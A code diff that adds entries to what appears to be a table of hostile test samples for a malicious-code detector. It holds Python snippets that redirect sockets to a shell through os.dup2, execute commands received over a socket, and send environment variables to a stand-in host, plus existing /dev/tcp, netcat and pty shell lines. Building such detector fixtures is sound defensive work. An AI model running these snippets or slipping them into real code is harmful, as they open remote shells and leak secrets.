@@ -71,6 +71,66 @@ HOSTILE: Mapping[str, Hostile] = {
         "subprocess.call(['/bin/sh', '-i'])\n",
         "reverse_shell",
     ),
+    "dup2_by_a_parameter": hostile(
+        "import os, socket\n\n\ndef put(fd):\n    for n in range(3):\n        os.dup2(fd, n)\n\n\ndef f(x):\n    s = socket.socket()\n"
+        "    s.connect(('192.0.2.1', 1))\n    put(s.fileno())\n    os.execv('/bin/sh', ['sh'])\n",
+        "reverse_shell",
+    ),
+    "dup2_by_a_keyword": hostile(
+        "import os, socket\n\n\ndef put(where, fd=None):\n    os.dup2(fd, where)\n\n\ndef f(x):\n    put(0, fd=socket.create_connection(('192.0.2.1', 1)).detach())\n",
+        "reverse_shell",
+    ),
+    "dup2_by_a_member": hostile(
+        "import os, socket\n\n\nclass A:\n    def __init__(self):\n        self.s = socket.create_connection(('192.0.2.1', 1))\n\n"
+        "    def go(self):\n        fd = self.s.fileno()\n        os.dup2(fd, 0)\n",
+        "reverse_shell",
+    ),
+    "dup2_of_a_copy": hostile(
+        "import os, socket\n\n\ndef f(x):\n    s = socket.create_connection(('192.0.2.1', 1))\n    other = os.dup(int(s.fileno()))\n    os.dup2(other, 1)\n",
+        "reverse_shell",
+    ),
+    "dup2_of_an_accepted_one": hostile(
+        "import os, socket\n\n\ndef f(x):\n    s = socket.socket()\n    s.bind(('', 1))\n    s.listen()\n    c, _ = s.accept()\n    os.dup2(c.fileno(), 0)\n",
+        "reverse_shell",
+    ),
+    "dup2_of_a_result": hostile(
+        "import os, socket\n\n\ndef far():\n    return socket.create_connection(('192.0.2.1', 1))\n\n\ndef f(x):\n    [os.dup2(far().fileno(), n) for n in (0, 1)]\n",
+        "reverse_shell",
+    ),
+    "dup2_of_a_global": hostile(
+        "import os, socket\nS = None\n\n\ndef a():\n    global S\n    S = socket.create_connection(('192.0.2.1', 1))\n\n\ndef f(x):\n    os.dup2(S.fileno(), 0)\n",
+        "reverse_shell",
+    ),
+    "dup2_in_a_thread": hostile(
+        "import os, socket, threading\n\n\ndef run(c):\n    os.dup2(c.fileno(), 0)\n\n\ndef f(x):\n    s = socket.socket()\n    s.connect(('192.0.2.1', 1))\n"
+        "    threading.Thread(target=run, args=(s,)).start()\n",
+        "reverse_shell",
+    ),
+    "dup2_of_either": hostile(
+        "import os, socket\n\n\ndef f(x):\n    s = socket.create_connection(('192.0.2.1', 1))\n    fd = os.open('log', 1) if x else s.fileno()\n    os.dup2(fd, 0)\n",
+        "reverse_shell",
+    ),
+    "dup2_of_an_opened_descriptor": hostile(
+        "import os, socket\n\n\ndef f(x):\n    s = socket.create_connection(('192.0.2.1', 1))\n    file = open(s.fileno(), 'rb')\n    os.dup2(file.fileno(), 0)\n",
+        "reverse_shell",
+    ),
+    "socket_as_stdin_by_names": hostile(
+        "import socket, subprocess\n\n\ndef f(x):\n    s = socket.create_connection(('192.0.2.1', 1))\n    way = s.makefile('rwb')\n    subprocess.Popen('sh', stdin=way)\n",
+        "reverse_shell",
+    ),
+    "commands_by_socket_through_functions": hostile(
+        "import socket, subprocess\n\n\ndef next_order(s):\n    return s.recv(10).decode()\n\n\ndef f(x):\n    s = socket.create_connection(('192.0.2.1', 1))\n"
+        "    order = next_order(s)\n    subprocess.run(order, shell=True)\n",
+        "remote_command",
+    ),
+    "environment_sent_by_names": hostile(
+        "import json, os, socket\n\n\ndef all_of_it():\n    return {**os.environ}\n\n\ndef f(x):\n    s = socket.create_connection(('192.0.2.1', 1))\n"
+        "    text = json.dumps(all_of_it())\n    s.sendall(text.encode())\n",
+        "environment_sent",
+    ),
+    "environment_items_sent": hostile(
+        "import os, requests\n\n\ndef f(x):\n    data = dict(os.environ.items())\n    requests.post('http://example.invalid', json=data)\n", "environment_sent"
+    ),
     "pty_shell": hostile("import pty\npty.spawn('/bin/bash')\n", "reverse_shell"),
     "dev_tcp": hostile("import os\nos.system('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1')\n", "reverse_shell"),
     "netcat": hostile("import subprocess\nsubprocess.run(['nc', '192.0.2.1', '4444', '-e', '/bin/sh'])\n", "reverse_shell"),
